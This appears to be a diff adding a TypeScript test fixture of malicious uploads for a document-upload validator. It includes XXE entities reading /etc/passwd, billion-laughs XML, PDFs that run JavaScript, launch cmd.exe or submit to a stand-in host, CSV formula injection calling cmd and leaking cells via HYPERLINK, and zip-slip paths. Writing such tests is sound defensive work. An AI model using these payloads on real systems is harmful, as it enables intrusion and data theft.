@@ -1,0 +1,199 @@
+/** Documents that would do something when they are opened. */
+import { openDocumentEntries, pdf, sheetEntries, wordEntries } from "../files.ts";
+import { locked, renamed, zipOf } from "../zips.ts";
+import { damaged, notOurs, type Outcome, sending } from "./upload.ts";
+
+const word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
+const odt = "application/vnd.oasis.opendocument.text";
+/** What Office wrote until 2003, and what it locks documents with. */
+const compound = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]);
+
+const macros = sending("documents with macros", [
+  [
+    "a contract with one",
+    {
+      name: "contrat.docx",
+      bytes: () => zipOf([...wordEntries(), { name: "word/vbaProject.bin", content: "x" }]),
+    },
+    notOurs,
+  ],
+  [
+    "a contract that is made for them",
+    {
+      name: "contrat.docx",
+      bytes: () => zipOf(wordEntries({ type: "application/vnd.ms-word.document.macroEnabled.main+xml" })),
+    },
+    notOurs,
+  ],
+  [
+    "a sheet that is made for them",
+    {
+      name: "budget.xlsx",
+      bytes: () => zipOf(sheetEntries({ type: "application/vnd.ms-excel.sheet.macroEnabled.main+xml" })),
+    },
+    notOurs,
+  ],
+  [
+    "Basic in an open document",
+    {
+      name: "contrat.odt",
+      bytes: () => zipOf([...openDocumentEntries(odt), { name: "Basic/Standard/M.xml", content: "x" }]),
+    },
+    notOurs,
+  ],
+  [
+    "Python in an open document",
+    {
+      name: "contrat.odt",
+      bytes: () => zipOf([...openDocumentEntries(odt), { name: "Scripts/python/a.py", content: "x" }]),
+    },
+    notOurs,
+  ],
+  ["an old contract", { name: "contrat.doc", bytes: compound }, notOurs],
+  [
+    "a locked contract",
+    { name: "contrat.docx", bytes: async () => locked(await zipOf(wordEntries())) },
+    notOurs,
+  ],
+  ["rich text with an object", { name: "contrat.txt", bytes: "{\\rtf1{\\object\\objocx}}" }, notOurs],
+]);
+
+const laughs = `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "${"&a;".repeat(10)}"><!ENTITY c "${"&b;".repeat(10)}">]>`;
+const reading = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
+
+/** XML that nothing of ours reads. */
+const xml = sending("xml that unfolds or reads along", [
+  [
+    "a drawing of a billion laughs",
+    { name: "plan.svg", bytes: `<?xml version="1.0"?>${laughs}<svg>&c;</svg>` },
+    notOurs,
+  ],
+  ["a drawing that reads a file", { name: "plan.svg", bytes: `${reading}<svg>&a;</svg>` }, notOurs],
+  [
+    "a contract that reads a file",
+    {
+      name: "contrat.docx",
+      bytes: () => zipOf(wordEntries({ body: `<?xml version="1.0"?>${reading}<w>&a;</w>` })),
+    },
+    { kept: word, as: "contrat.docx" },
+  ],
+  [
+    "a contract of a billion laughs",
+    {
+      name: "contrat.docx",
+      bytes: () => zipOf(wordEntries({ body: `<?xml version="1.0"?>${laughs}<w>&c;</w>` })),
+    },
+    { kept: word, as: "contrat.docx" },
+  ],
+  [
+    "a list of parts that hides its type",
+    { name: "contrat.docx", bytes: () => zipOf(wordEntries({ type: "&#97;pplication/vnd.ms-word" })) },
+    notOurs,
+  ],
+]);
+
+const kept: Outcome = { kept: "application/pdf", as: "devis.pdf" };
+
+const acting = sending("a pdf that acts", [
+  [
+    "it runs a script when opened",
+    {
+      name: "devis.pdf",
+      bytes: () => pdf({ catalog: "/OpenAction 6 0 R", extra: ["<< /S /JavaScript /JS (app.alert(1)) >>"] }),
+    },
+    kept,
+  ],
+  [
+    "it starts a program",
+    {
+      name: "devis.pdf",
+      bytes: () => pdf({ catalog: "/OpenAction 6 0 R", extra: ["<< /S /Launch /F (cmd.exe) >>"] }),
+    },
+    kept,
+  ],
+  [
+    "it sends what is typed elsewhere",
+    {
+      name: "devis.pdf",
+      bytes: () =>
+        pdf({ catalog: "/OpenAction 6 0 R", extra: ["<< /S /SubmitForm /F (http://exemple.invalid) >>"] }),
+    },
+    kept,
+  ],
+  [
+    "it carries a program",
+    {
+      name: "devis.pdf",
+      bytes: () =>
+        pdf({
+          catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
+          extra: [
+            "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
+            "<< /Length 2 >>\nstream\nMZ\nendstream",
+          ],
+        }),
+    },
+    kept,
+  ],
+]);
+
+const formulas = sending("sheets that calculate more than sums", [
+  [
+    "a command",
+    { name: "invites.csv", bytes: "Nom\r\n=cmd|' /C calc'!A0\r\n" },
+    { kept: "text/csv", as: "invites.csv" },
+  ],
+  [
+    "a link that tells",
+    { name: "invites.csv", bytes: '=HYPERLINK("http://exemple.invalid?"&A1,"Zoé")' },
+    { kept: "text/csv", as: "invites.csv" },
+  ],
+  [
+    "one behind a tab",
+    { name: "invites.tsv", bytes: "\t@SUM(1+9)*cmd|' /C calc'!A0" },
+    { kept: "text/csv", as: "invites.tsv" },
+  ],
+  [
+    "one in UTF-16",
+    { name: "invites.csv", bytes: Buffer.from("\u{feff}=1+1\r\n", "utf16le") },
+    { kept: "text/csv", as: "invites.csv" },
+  ],
+]);
+
+const zips = sending("zips that lead astray", [
+  [
+    "an entry above its folder",
+    {
+      name: "contrat.docx",
+      bytes: async () =>
+        renamed(await zipOf([...wordEntries(), { name: "aa/bb", content: "x" }]), "aa/bb", "../bb"),
+    },
+    damaged,
+  ],
+  [
+    "an entry at the root of the disk",
+    {
+      name: "contrat.docx",
+      bytes: async () =>
+        renamed(await zipOf([...wordEntries(), { name: "a/bb", content: "x" }]), "a/bb", "/abb"),
+    },
+    damaged,
+  ],
+  [
+    "a zip of anything",
+    { name: "photos.zip", bytes: () => zipOf([{ name: "a.html", content: "<html>" }]) },
+    notOurs,
+  ],
+  [
+    "a type that is said last",
+    { name: "contrat.odt", bytes: () => zipOf(openDocumentEntries(odt).toReversed()) },
+    notOurs,
+  ],
+  [
+    "a directory that begins nowhere",
+    { name: "contrat.docx", bytes: `PK\x03\x04${"\0".repeat(40)}PK\x05\x06${"\xff".repeat(18)}` },
+    damaged,
+  ],
+]);
+
+export const papers = [...macros, ...xml, ...acting, ...formulas, ...zips];
